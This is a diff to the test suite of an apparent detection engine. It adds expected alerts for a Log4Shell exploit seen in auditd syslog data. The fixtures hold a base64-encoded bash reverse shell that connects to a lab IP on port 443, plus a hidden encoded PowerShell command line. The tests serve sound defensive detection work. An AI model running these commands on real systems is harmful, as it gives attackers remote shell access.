@@ -198,6 +198,18 @@ fn log4shell_java_to_shell() {
             &[Want("webshell-shell-child-windows", "WORKSTATION5", "powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc", "tomcat9.exe → encoded PowerShell: the serialized-object payload (4688 and Sentinel WindowsEvent Sysmon 1)")],
         );
     }
-    // The auoms rows (auditd inside syslog) are not read as process events yet: no alert.
-    check(&format!("{l}/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"), &[]);
+    // The same attack seen by auditd through AUOMS (Sentinel Syslog rows): java's failed execs
+    // name the JVM as the shell's parent.
+    check(
+        &format!("{l}/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"),
+        &[
+            Want(
+                "webshell-shell-child-linux",
+                "UBUNTU5",
+                "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}",
+                "java → bash -c …|base64 -d|bash -i: the reverse shell",
+            ),
+            Want("webshell-grandchild-recon", "UBUNTU5", "base64 -d", "base64 under java's bash"),
+        ],
+    );
 }
